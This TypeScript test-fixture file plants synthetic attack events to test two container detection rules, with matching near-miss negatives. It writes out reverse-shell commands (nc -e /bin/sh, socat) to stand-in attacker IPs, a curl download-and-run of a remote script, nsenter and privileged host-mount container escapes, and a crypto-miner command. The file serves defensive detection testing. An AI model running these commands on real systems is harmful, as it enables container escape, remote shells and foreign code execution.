/**
 * The planted last-day stories: attacks whose terms must alert (positives) and near-misses that
 * must not (negatives). Every planted value below is absent from `catalog.ts`, so nothing earlier
 * in the span carries it.
 */

import {
  CONTAINERD_SHIM,
  CORE_PRIVILEGED_PARENTS,
  LOGIN_SHELL,
  ROOT,
  RUNC_INIT,
  UBUNTU,
} from './catalog';
import {
  containerShellCommand,
  dockerExecProcess,
  ephemeral,
  privilegedRun,
  sshCommand,
  systemdChild,
  cronChild,
} from './activities';
import type { UserRef } from './defend_event';
import type { ImageSpec, SpecContent } from './event_spec';
import { buildContainerProfile } from './fleet';
import type { ContainerRuntime, HostRuntime } from './fleet';
import type { Random } from './random';

export type RuleKey = 'unusual_interactive_process' | 'privileged_docker_container';

export const INTERACTIVE_RULE = 'unusual_interactive_process' satisfies RuleKey;
export const PRIVILEGED_RULE = 'privileged_docker_container' satisfies RuleKey;

/** Why a planted negative must not alert. */
export type NearMissKind =
  | 'entry_meta_type_uppercase'
  | 'not_interactive'
  | 'host_os_not_linux'
  | 'event_action_fork'
  | 'host_not_container'
  | 'privileged_equals_true'
  | 'process_name_uppercase'
  | 'run_without_privileged'
  | 'recurring_parent';

export interface TermMark {
  readonly rule: RuleKey;
  readonly value: string;
  readonly description: string;
}

export interface NegativeMark extends TermMark {
  readonly nearMiss: NearMissKind;
  /** True when the event matches the rule query but its term is already known (not new). */
  readonly matchesQuery: boolean;
}

export interface PlantedEvent {
  /** From the story's start. */
  readonly offsetMs: number;
  readonly content: SpecContent;
  /** `false`: the event has no `event.ingested` (exercises the timestamp_override fallback). */
  readonly ingested: boolean;
  readonly term?: TermMark;
  readonly negative?: NegativeMark;
}

export interface StoryContext {
  readonly rng: Random;
  readonly host: HostRuntime;
  readonly container: ContainerRuntime;
}

export type Story = (ctx: StoryContext) => PlantedEvent[];

const MS_PER_MINUTE = 60_000;
const ATTACKER_IP = '203.0.113.45';
const WINDOWS = 'windows';

const image = (
  executable: string,
  args: readonly string[],
  workingDirectory = '/',
  name?: string
): ImageSpec =>
  name === undefined
    ? { executable, args, workingDirectory }
    : { executable, args, workingDirectory, name };

const event = (
  offsetMs: number,
  content: SpecContent,
  extra: Partial<Omit<PlantedEvent, 'offsetMs' | 'content'>> = {}
): PlantedEvent => ({
  offsetMs,
  content,
  ingested: true,
  ...extra,
});

const interactiveTerm = (value: string, description: string): TermMark => ({
  rule: INTERACTIVE_RULE,
  value,
  description,
});
const privilegedTerm = (value: string, description: string): TermMark => ({
  rule: PRIVILEGED_RULE,
  value,
  description,
});

const dockerCli = (args: readonly string[]): ImageSpec =>
  image('/usr/bin/docker', ['docker', ...args], '/home/ubuntu');

/** A docker CLI process run from `parent` inside an ssh login session (parent ≠ login shell). */
const dockerFromSshParent = (
  host: HostRuntime,
  command: ImageSpec,
  parent: ImageSpec,
  user: UserRef,
  interactive: boolean
): SpecContent => ({
  ...sshCommand(host, command, ATTACKER_IP, user),
  interactive,
  parent: ephemeral(parent, user, interactive, 2000),
  entry: ephemeral(LOGIN_SHELL, UBUNTU, true, 30 * MS_PER_MINUTE),
});

// ---------------------------------------------------------------------------------------------
// Rule A positives: interactive processes in containers never seen before.

const ncViaDockerExec: Story = ({ host, container }) => {
  const listener = image('/usr/bin/nc', ['nc', '-lvnp', '4444']);
  const term = interactiveTerm(
    'nc',
    '`docker exec -it <c> nc -lvnp 4444`, then a reverse `nc … -e /bin/sh` typed in a shell'
  );
  return [
    event(
      0,
      sshCommand(
        host,
        dockerCli(['exec', '-it', container.profile.name, 'nc', '-lvnp', '4444']),
        ATTACKER_IP
      )
    ),
    event(180, dockerExecProcess(host, container, listener, true), { term }),
    event(
      25 * MS_PER_MINUTE,
      containerShellCommand(
        host,
        container,
        image('/usr/bin/nc', ['nc', '198.51.100.23', '4444', '-e', '/bin/sh'])
      ),
      { term }
    ),
  ];
};

const socatFromShell: Story = ({ host, container }) => [
  event(0, dockerExecProcess(host, container, container.image.shell, true)),
  event(
    2 * MS_PER_MINUTE,
    containerShellCommand(
      host,
      container,
      image('/usr/bin/socat', [
        'socat',
        'exec:bash -li,pty,stderr,setsid,sigint,sane',
        'tcp:198.51.100.23:4444',
      ])
    ),
    {
      ingested: false,
      term: interactiveTerm(
        'socat',
        'socat reverse pty shell typed in a `docker exec -it` shell; no event.ingested (fallback to @timestamp)'
      ),
    }
  ),
];

const nsenterViaDockerExec: Story = ({ host, container }) => [
  event(
    0,
    dockerExecProcess(
      host,
      container,
      image('/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'bash']),
      true
    ),
    {
      term: interactiveTerm(
        'nsenter',
        '`docker exec -it <c> nsenter -t 1 -m -u -i -n -p -- bash` (namespace escape attempt)'
      ),
    }
  ),
];

const pythonPtySpawn: Story = ({ host, container }) => {
  const python = image(
    '/usr/bin/python3.11',
    ['python3', '-c', 'import pty; pty.spawn("/bin/sh")'],
    '/',
    'python3'
  );
  const spawnedShell: SpecContent = {
    ...containerShellCommand(host, container, image('/bin/sh', ['/bin/sh'])),
    parent: ephemeral(python, ROOT, true, 50),
    entry: ephemeral(container.image.shell, ROOT, true, 5 * MS_PER_MINUTE),
  };
  return [
    event(0, dockerExecProcess(host, container, container.image.shell, true)),
    event(40_000, containerShellCommand(host, container, python), {
      term: interactiveTerm(
        'python3',
        '`python3 -c \'import pty; pty.spawn("/bin/sh")\'` tty upgrade in a container shell'
      ),
    }),
    event(40_060, spawnedShell),
  ];
};

const curlDownload: Story = ({ host, container }) => [
  event(
    0,
    containerShellCommand(
      host,
      container,
      image('/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.50/x.sh', '-o', '/tmp/x.sh'])
    ),
    {
      term: interactiveTerm('curl', 'curl download of a script, typed in a container shell'),
    }
  ),
  event(3000, containerShellCommand(host, container, image('/bin/sh', ['sh', '/tmp/x.sh']))),
];

// ---------------------------------------------------------------------------------------------
// Rule B positives: privileged containers started by parents never seen before.

const sudoHostMount: Story = ({ host, rng }) => {
  const args = ['run', '--privileged', '--rm', '-it', '-v', '/:/host', 'alpine', 'chroot', '/host'];
  const sudo = image('/usr/bin/sudo', ['sudo', 'docker', ...args], '/home/ubuntu');
  const escaped = buildContainerProfile(rng.hex(64), 'elastic_tesla', 'alpine', 'latest');
  const chroot: SpecContent = {
    action: 'exec',
    hostIndex: host.index,
    container: escaped,
    process: image('/usr/sbin/chroot', ['chroot', '/host']),
    user: ROOT,
    interactive: true,
    parent: ephemeral(CONTAINERD_SHIM, ROOT, false, 400),
    previous: RUNC_INIT,
    entry: { kind: 'self' },
    entryMeta: { type: 'container' },
    session: 'self',
    group: 'self',
  };
  return [
    event(0, dockerFromSshParent(host, dockerCli(args), sudo, ROOT, true), {
      term: privilegedTerm(
        '/usr/bin/sudo',
        '`sudo docker run --privileged --rm -it -v /:/host alpine chroot /host` (host mount escape)'
      ),
    }),
    event(900, chroot, {
      term: interactiveTerm(
        'chroot',
        '`chroot /host` as the interactive init of the privileged container'
      ),
    }),
  ];
};

const pythonJob: Story = ({ host }) => {
  const python = image(
    '/usr/bin/python3.10',
    ['python3', '/opt/deploy/run_job.py'],
    '/opt/deploy',
    'python3'
  );
  const run = (name: string): SpecContent => ({
    ...cronChild(
      host,
      dockerCli(['run', '--privileged', '-d', '--name', name, 'registry.local/jobs/etl:1.4'])
    ),
    parent: ephemeral(python, ROOT, false, 1500),
  });
  const term = privilegedTerm(
    '/usr/bin/python3.10',
    'a new cron python job runs `docker run --privileged -d …` (twice)'
  );
  return [event(0, run('job-7'), { term }), event(40 * MS_PER_MINUTE, run('job-8'), { term })];
};

const dropper: Story = ({ host }) => [
  event(
    0,
    {
      ...systemdChild(
        host,
        dockerCli([
          'run',
          '--privileged',
          '--pid=host',
          '--net=host',
          '-v',
          '/:/mnt',
          'alpine:3.19',
          'sh',
          '-c',
          'chroot /mnt sh -c "crontab -l"',
        ])
      ),
      parent: ephemeral(
        image('/tmp/.x/dropper', ['/tmp/.x/dropper', '--quiet'], '/tmp/.x'),
        ROOT,
        false,
        4000
      ),
    },
    {
      term: privilegedTerm(
        '/tmp/.x/dropper',
        'a binary in a hidden /tmp directory starts a privileged, host-pid, host-mount container'
      ),
    }
  ),
];

const nohupPersistence: Story = ({ host }) => {
  const args = [
    'run',
    '--privileged',
    '-d',
    '--restart',
    'always',
    '-v',
    '/:/host',
    'alpine:3.19',
    'sleep',
    'infinity',
  ];
  return [
    event(
      0,
      dockerFromSshParent(
        host,
        dockerCli(args),
        image('/usr/bin/nohup', ['nohup', 'docker', ...args], '/home/ubuntu'),
        UBUNTU,
        false
      ),
      {
        term: privilegedTerm(
          '/usr/bin/nohup',
          '`nohup docker run --privileged -d --restart always -v /:/host …` (persistent privileged container)'
        ),
      }
    ),
  ];
};

// ---------------------------------------------------------------------------------------------
// Rule A negatives: new process names in events that do not match the query.

const negative = (
  rule: RuleKey,
  nearMiss: NearMissKind,
  value: string,
  description: string,
  matchesQuery = false
): NegativeMark => ({
  rule,
  nearMiss,
  value,
  description,
  matchesQuery,
});

const straceUppercaseContainer: Story = ({ host, container }) => [
  event(
    0,
    {
      ...containerShellCommand(
        host,
        container,
        image('/usr/bin/strace', ['strace', '-f', '-p', '1'])
      ),
      entryMeta: { type: 'Container' },
    },
    {
      negative: negative(
        INTERACTIVE_RULE,
        'entry_meta_type_uppercase',
        'strace',
        '`entry_meta.type: Container` (keyword match is case-sensitive)'
      ),
    }
  ),
];

const xmrigNotInteractive: Story = ({ host, container }) => [
  event(
    0,
    dockerExecProcess(
      host,
      container,
      image('/usr/local/bin/xmrig', [
        'xmrig',
        '--donate-level',
        '1',
        '-o',
        'pool.example.net:3333',
      ]),
      false
    ),
    {
      negative: negative(
        INTERACTIVE_RULE,
        'not_interactive',
        'xmrig',
        'a new name, but `docker exec` without -it: process.interactive false'
      ),
    }
  ),
];

const gdbNotLinux: Story = ({ host, container }) => [
  event(
    0,
    {
      ...containerShellCommand(host, container, image('/usr/bin/gdb', ['gdb', '-p', '1'])),
      hostOsType: WINDOWS,
    },
    {
      negative: negative(INTERACTIVE_RULE, 'host_os_not_linux', 'gdb', '`host.os.type: windows`'),
    }
  ),
];

const tcpdumpFork: Story = ({ host, container }) => [
  event(
    0,
    {
      ...containerShellCommand(
        host,
        container,
        image('/usr/bin/tcpdump', ['tcpdump', '-i', 'eth0'])
      ),
      action: 'fork',
    },
    {
      negative: negative(
        INTERACTIVE_RULE,
        'event_action_fork',
        'tcpdump',
        '`event.action: fork` (the rule wants exec)'
      ),
    }
  ),
];

const nmapOnHost: Story = ({ host }) => [
  event(
    0,
    sshCommand(
      host,
      image('/usr/bin/nmap', ['nmap', '-sS', '10.0.0.0/24'], '/home/ubuntu'),
      ATTACKER_IP,
      ROOT
    ),
    {
      negative: negative(
        INTERACTIVE_RULE,
        'host_not_container',
        'nmap',
        'interactive, but on the host over ssh (entry_meta.type sshd)'
      ),
    }
  ),
];

// ---------------------------------------------------------------------------------------------
// Rule B negatives: docker runs from new parents that do not match, and matches by known parents.

const shellParent = (executable: string): ImageSpec =>
  image(executable, [executable.slice(executable.lastIndexOf('/') + 1)], '/home/ubuntu');

const privilegedEqualsTrue: Story = ({ host }) => [
  event(
    0,
    dockerFromSshParent(
      host,
      dockerCli(['run', '--privileged=true', '-it', 'ubuntu:22.04', 'bash']),
      shellParent('/usr/bin/fish'),
      UBUNTU,
      true
    ),
    {
      negative: negative(
        PRIVILEGED_RULE,
        'privileged_equals_true',
        '/usr/bin/fish',
        '`--privileged=true` is one argv element, not `--privileged`'
      ),
    }
  ),
];

const uppercaseDocker: Story = ({ host }) => {
  const command = image(
    '/usr/local/bin/Docker',
    ['Docker', 'run', '--privileged', '-it', 'ubuntu:22.04', 'bash'],
    '/home/ubuntu',
    'Docker'
  );
  return [
    event(0, dockerFromSshParent(host, command, shellParent('/usr/bin/zsh'), UBUNTU, true), {
      negative: negative(
        PRIVILEGED_RULE,
        'process_name_uppercase',
        '/usr/bin/zsh',
        '`process.name: Docker` (case-sensitive keyword)'
      ),
    }),
  ];
};

const privilegedNotLinux: Story = ({ host }) => [
  event(
    0,
    {
      ...dockerFromSshParent(
        host,
        dockerCli(['run', '--privileged', '-it', 'ubuntu:22.04', 'bash']),
        shellParent('/usr/bin/tmux'),
        UBUNTU,
        true
      ),
      hostOsType: WINDOWS,
    },
    {
      negative: negative(
        PRIVILEGED_RULE,
        'host_os_not_linux',
        '/usr/bin/tmux',
        '`host.os.type: windows`'
      ),
    }
  ),
];

const privilegedFork: Story = ({ host }) => [
  event(
    0,
    {
      ...dockerFromSshParent(
        host,
        dockerCli(['run', '--privileged', '-it', 'ubuntu:22.04', 'bash']),
        shellParent('/usr/bin/screen'),
        UBUNTU,
        true
      ),
      action: 'fork',
    },
    {
      negative: negative(
        PRIVILEGED_RULE,
        'event_action_fork',
        '/usr/bin/screen',
        '`event.action: fork` (the rule wants exec)'
      ),
    }
  ),
];

const runWithoutPrivileged: Story = ({ host }) => [
  event(
    0,
    {
      ...systemdChild(
        host,
        dockerCli(['run', '--rm', '-d', '--cap-add', 'SYS_ADMIN', 'registry.local/ops/agent:3.1'])
      ),
      parent: ephemeral(
        image(
          '/usr/bin/ansible-playbook',
          ['/usr/bin/python3', '/usr/bin/ansible-playbook', 'site.yml'],
          '/etc/ansible',
          'ansible-playbook'
        ),
        ROOT,
        false,
        30_000
      ),
    },
    {
      negative: negative(
        PRIVILEGED_RULE,
        'run_without_privileged',
        '/usr/bin/ansible-playbook',
        '`docker run` with --cap-add but no `--privileged`'
      ),
    }
  ),
];

const recurringParents: Story = ({ host }) =>
  CORE_PRIVILEGED_PARENTS.slice(0, 2).map((routine, index) =>
    event(index * 7 * MS_PER_MINUTE, privilegedRun(host, routine), {
      negative: negative(
        PRIVILEGED_RULE,
        'recurring_parent',
        routine.parent.executable,
        `matches the query, but \`${routine.parent.executable}\` runs privileged containers every day (known term)`,
        true
      ),
    })
  );

export const POSITIVE_STORIES: readonly Story[] = [
  ncViaDockerExec,
  socatFromShell,
  nsenterViaDockerExec,
  pythonPtySpawn,
  curlDownload,
  sudoHostMount,
  pythonJob,
  dropper,
  nohupPersistence,
];

export const NEGATIVE_STORIES: readonly Story[] = [
  straceUppercaseContainer,
  xmrigNotInteractive,
  gdbNotLinux,
  tcpdumpFork,
  nmapOnHost,
  privilegedEqualsTrue,
  uppercaseDocker,
  privilegedNotLinux,
  privilegedFork,
  runWithoutPrivileged,
  recurringParents,
];
